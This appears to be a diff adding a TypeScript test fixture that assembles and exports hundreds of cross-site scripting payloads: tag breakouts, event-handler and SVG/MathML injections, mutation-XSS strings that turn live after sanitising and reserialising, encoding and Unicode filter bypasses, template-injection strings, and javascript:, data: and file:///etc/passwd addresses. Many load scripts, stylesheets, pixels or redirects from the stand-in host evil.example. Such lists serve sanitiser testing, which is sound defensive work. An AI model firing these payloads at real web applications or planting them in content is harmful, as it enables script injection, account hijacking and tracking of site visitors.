@@ -1,0 +1,160 @@
+/** Scripts as others have smuggled them in, by kind. Each marks its window and calls a dialog where it runs. */
+
+const run = 'top.attacked=1,alert(1)';
+const away = 'https://evil.example';
+const base64 = (text: string) => Buffer.from(text).toString('base64');
+const hex = (text: string) => [...text].map((sign) => `&#x${sign.codePointAt(0)?.toString(16)};`).join('');
+const decimal = (text: string) => [...text].map((sign) => `&#${sign.codePointAt(0)}`).join('');
+
+/** Out of whatever the text was put into. */
+const breakouts = [
+  '',
+  '">',
+  "'>",
+  '`>',
+  '--></style></title></textarea></script>',
+  ']]>',
+  '</noscript></template></select>',
+];
+
+const tags = [
+  `<script>${run}</script>`,
+  `<script src=${away}/x.js></script>`,
+  `<img src=x onerror=${run}>`,
+  `<svg onload=${run}>`,
+  `<svg/onload=${run}//`,
+  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
+  `<svg><script>${run}</script></svg>`,
+  `<body onload=${run}>`,
+  `<iframe src="javascript:${run}"></iframe>`,
+  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
+  `<input autofocus onfocus=${run}>`,
+  `<details open ontoggle=${run}>x</details>`,
+  `<video src=x onerror=${run}></video>`,
+  `<link rel=stylesheet href=${away}/x.css>`,
+  `<img src=${away}/pixel.gif>`,
+];
+
+const more = [
+  `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id=x xmlns=http://www.w3.org/2000/svg onload=${run} />`)}#x">`,
+  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
+  `<svg><set attributeName=onmouseover to=${run}>`,
+  `<svg><image href=${away}/x.png>`,
+  `<math><a xlink:href="javascript:${run}">x</a></math>`,
+  `<object data="javascript:${run}"></object>`,
+  `<object data="data:text/html;base64,${base64(`<script>${run}</script>`)}"></object>`,
+  `<embed src="javascript:${run}">`,
+  `<embed src="data:text/html,<script>${run}</script>">`,
+  `<iframe src="data:text/html,<script>${run}</script>"></iframe>`,
+  `<iframe srcdoc="${hex(`<script>${run}</script>`)}"></iframe>`,
+  `<audio src=x onerror=${run}></audio>`,
+  `<video><source onerror=${run}></video>`,
+  `<select autofocus onfocus=${run}>`,
+  `<textarea autofocus onfocus=${run}>`,
+  `<button popovertarget=p>x</button><div popover id=p onbeforetoggle=${run}>`,
+  `<marquee onstart=${run}>x</marquee>`,
+  `<style>@import url(${away}/x.css);</style>`,
+  `<style>body{background:url(${away}/x.png)}</style>`,
+  `<style onload=${run}></style>`,
+  `<div style="background:url(${away}/x.png)">x</div>`,
+  `<div style="background:u\\72l(${away}/x.png)">x</div>`,
+  `<div style="width:expression(${run})">x</div>`,
+  `<div style="animation:x" onanimationstart=${run}><style>@keyframes x{}</style></div>`,
+  `" style="background-image:url(${away}/x)`,
+  `" onmouseover="${run}" x="`,
+  `' onfocus='${run}' autofocus tabindex=1 x='`,
+  `\` onerror=\`${run}\``,
+  `<meta http-equiv=refresh content="0;url=${away}">`,
+  `<meta http-equiv=refresh content="0;url=data:text/html,<script>${run}</script>">`,
+  `<base href="${away}/">`,
+  `<form action="javascript:${run}"><input type=submit></form>`,
+  `<form action=${away}><button>x</button></form>`,
+  `<button formaction="javascript:${run}">x</button>`,
+  `<a href="javascript:${run}">x</a>`,
+  `<a href="${away}" ping="${away}/ping">x</a>`,
+  `<a href="data:text/html,<script>${run}</script>">x</a>`,
+  `<div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`,
+  `<script type=module>import "${away}/x.js"</script>`,
+  `<script>/*</script><img src=x onerror=${run}>*/`,
+  `<link rel=prefetch href=${away}/p><link rel=dns-prefetch href=//evil.example>`,
+  `<link rel=icon href=${away}/i.ico>`,
+];
+
+/** Harmless as it stands, and a script once it has been parsed and written again. */
+const mutating = [
+  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
+  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
+  `<svg><p><style><a title="</style><img src=x onerror=${run}>"></style></p></svg>`,
+  `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=${run}>"></style>`,
+  `<svg><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;/s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=${run}>">`,
+  `<table><caption><style></style><a title="</caption></table><img src=x onerror=${run}>">`,
+  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
+  `<xmp><p title="</xmp><svg/onload=${run}>">`,
+  `<title>&lt;/title>&lt;img src=x onerror=${run}></title>`,
+  `<textarea>&lt;/textarea&gt;&lt;img src=x onerror=${run}&gt;</textarea>`,
+  `<!--><img src=x onerror=${run}>-->`,
+  `<!--!><img src=x onerror=${run}>-->`,
+  `<?xml ?><img src=x onerror=${run}>`,
+  `<![CDATA[<img src=x onerror=${run}>]]>`,
+  `</p><svg><![CDATA[><img src=x onerror=${run}>]]>`,
+  `<!--[if mso]><script>${run}</script><![endif]-->`,
+];
+
+const encodings = [
+  `&lt;script&gt;${run}&lt;/script&gt;`,
+  `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
+  `${decimal('<')}img src=x onerror=${run}${decimal('>')}`,
+  `\\u003cimg src=x onerror=${run}\\u003e`,
+  `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
+  `%3Cscript%3E${run}%3C/script%3E`,
+  `＜script＞${run}＜/script＞`,
+  `‹img src=x onerror=${run}›`,
+  `<ſcript>${run}</ſcript>`,
+  `<İMG SRC=x ONERROR=${run}>`,
+  `<scr\u200bipt>${run}</scr\u200bipt><img src=x one\u200brror=${run}>`,
+  `x\u202e"><script>${run}</script>`,
+  `<IMG SRC=x OnErRoR=${run}>`,
+  `<img/src=x\u000conerror=${run}>`,
+  `<img\tsrc=x\nonerror=${run}>`,
+  `<img src=x onerror=${hex(run)}>`,
+  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
+  `{{constructor.constructor("${run}")()}}`,
+  '$' + `{${run}}`,
+  `<%= ${run} %>`,
+  `[x](javascript:${run})`,
+  `![x](${away}/pixel.gif)`,
+  `<${away}/auto>`,
+];
+
+/** What stands where an address should. */
+export const badAddresses = [
+  `javascript:${run}`,
+  `JaVaScRiPt:${run}`,
+  ` java\tscript:${run}`,
+  `java\nscript:${run}`,
+  `\u0001javascript:${run}`,
+  `javascript&colon;${run}`,
+  `javascript://%0a${run}`,
+  `javascript:/*https://x.example*/${run}`,
+  `vbscript:${run}`,
+  `data:text/html,<script>${run}</script>`,
+  `data:text/html;base64,${base64(`<script>${run}</script>`)}`,
+  `blob:${away}/x`,
+  `file:///etc/passwd`,
+  `view-source:javascript:${run}`,
+  `feed:javascript:${run}`,
+  `\\\\evil.example\\x`,
+  `https://evil.example/"onmouseover="${run}`,
+  `https://user:pass@evil.example/`,
+];
+
+export const payloads: readonly string[] = [
+  ...breakouts.flatMap((breakout) => tags.map((tag) => `${breakout}${tag}`)),
+  ...more,
+  ...mutating,
+  ...encodings,
+  ...badAddresses,
+];
